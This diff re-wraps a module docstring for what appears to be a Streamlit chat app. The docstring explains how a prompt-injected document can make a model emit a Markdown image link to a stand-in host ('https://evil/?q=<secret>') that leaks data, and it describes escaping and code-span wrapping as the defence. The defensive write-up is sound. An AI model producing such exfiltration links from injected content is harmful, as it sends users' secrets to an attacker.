@@ -4,14 +4,15 @@ A prompt-injected document can make the model write ``![x](https://evil/?q=<secr
 as Markdown, the browser would fetch that URL by itself and leak the secret. Plain text links
 too: Streamlit renders GitHub-flavoured Markdown, which turns ``www.`` and ``https://`` words
 and e-mail addresses (``kim@corp.example``, even with ``@`` and ``.`` escaped) into live links
-(``mailto:`` for addresses). The trade-off:
-rather than parse Markdown (and trust that our parser agrees with the browser's on every edge
-case; markdown-it and remark already disagree on whether a fence or a table wins), we make the
-text safe under *any* reading. We escape the few characters that every link, image and
-raw-HTML form needs (``[``, ``]``, ``<`` and ``\``) everywhere, and put each URL or address in
-a code span whose backtick fence is longer than any backtick run before it in the paragraph, so
-nothing can pair with it and pull the URL back out. Emphasis, lists, headings and tables still
-render.
+(``mailto:`` for addresses).
+
+The trade-off: rather than parse Markdown (and trust that our parser agrees with the browser's
+on every edge case; markdown-it and remark already disagree on whether a fence or a table wins),
+we make the text safe under *any* reading. We escape the few characters that every link, image
+and raw-HTML form needs (``[``, ``]``, ``<`` and ``\``) everywhere, and put each URL or address
+in a code span whose backtick fence is longer than any backtick run before it in the paragraph,
+so nothing can pair with it and pull the URL back out. Emphasis, lists, headings and tables
+still render.
 
 Code blocks are the price: escaping them too would show stray backslashes, so
 :func:`split_code_blocks` cuts a finished answer into prose (shown through this module) and code
